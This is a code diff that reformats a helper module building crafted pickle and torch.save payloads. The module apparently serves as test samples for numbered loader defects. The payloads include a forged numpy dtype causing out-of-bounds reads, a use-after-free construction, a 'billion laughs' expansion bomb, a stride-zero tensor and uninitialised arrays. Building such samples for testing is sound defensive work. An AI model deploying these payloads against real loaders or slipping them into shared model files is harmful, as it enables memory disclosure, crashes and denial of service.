@@ -77,8 +77,12 @@ def dtype_state(order="<", subarray=NONE, names=NONE, fields=NONE, elsize=-1, al
 
 def reconstruct() -> bytes:
     """``numpy._core.multiarray._reconstruct(ndarray, (0,), b'b')``: an array before BUILD."""
-    return call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"),
-                tup(i(0)), raw(b"b"))
+    return call(
+        glob("numpy._core.multiarray", "_reconstruct"),
+        glob("numpy", "ndarray"),
+        tup(i(0)),
+        raw(b"b"),
+    )
 
 
 def array(shape: tuple[int, ...], dtype_ops: bytes, data: bytes) -> bytes:
@@ -103,8 +107,11 @@ def tensor(storage_ops: bytes, size: tuple[int, ...], stride: tuple[int, ...], o
     )
 
 
-def torch_zip(pickle_bytes: bytes, storages: dict[str, bytes] | None = None,
-              compress: dict[str, bool] | None = None) -> bytes:
+def torch_zip(
+    pickle_bytes: bytes,
+    storages: dict[str, bytes] | None = None,
+    compress: dict[str, bool] | None = None,
+) -> bytes:
     """``torch.save``'s zip layout holding ``data.pkl`` and raw storages."""
     buf = io.BytesIO()
     compress = compress or {}
@@ -136,8 +143,9 @@ def forged_subarray() -> bytes:
     """Defect 1, subarray variant: an 8-byte void dtype whose state declares a subarray of a
     million doubles, read far past the buffer."""
     base = dtype("f8", dtype_state())
-    forged = dtype("V8", dtype_state(order="|", subarray=tup(base, tup(i(1 << 20))),
-                                     elsize=8, align=1))
+    forged = dtype(
+        "V8", dtype_state(order="|", subarray=tup(base, tup(i(1 << 20))), elsize=8, align=1)
+    )
     return program(array((1,), forged, raw(b"\x00" * 8)))
 
 
@@ -148,9 +156,7 @@ def use_after_free(n: int = 1 << 20) -> bytes:
     a = array((n,), f8, raw(b"\x00" * (8 * n))) + put(1)
     v = call(glob("numpy", "ndarray"), tup(i(n)), s("f8"), get(1)) + put(2)
     rebuild = get(1) + build(tup(i(1), tup(i(1)), get(3), FALSE, raw(b"\x00" * 8))) + P.POP
-    return program(
-        P.EMPTY_DICT + P.MARK + s("a") + a + s("v") + v + P.SETITEMS + rebuild
-    )
+    return program(P.EMPTY_DICT + P.MARK + s("a") + a + s("v") + v + P.SETITEMS + rebuild)
 
 
 def billion_laughs(levels: int = 9, fanout: int = 10) -> bytes:
@@ -170,7 +176,11 @@ def stride_zero_tensor(numel: int = 1 << 26) -> tuple[bytes, dict[str, bytes]]:
 
 def uninitialised_array(n: int = 4096) -> bytes:
     """Defect 10: arrays whose memory the file never fills (no BUILD / ``ndarray(shape)``)."""
-    unbuilt = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"),
-                   tup(i(n)), raw(b"b"))
+    unbuilt = call(
+        glob("numpy._core.multiarray", "_reconstruct"),
+        glob("numpy", "ndarray"),
+        tup(i(n)),
+        raw(b"b"),
+    )
     empty = call(glob("numpy", "ndarray"), tup(i(n)), s("f8"))
     return program(dict_of(unbuilt=unbuilt, empty=empty))
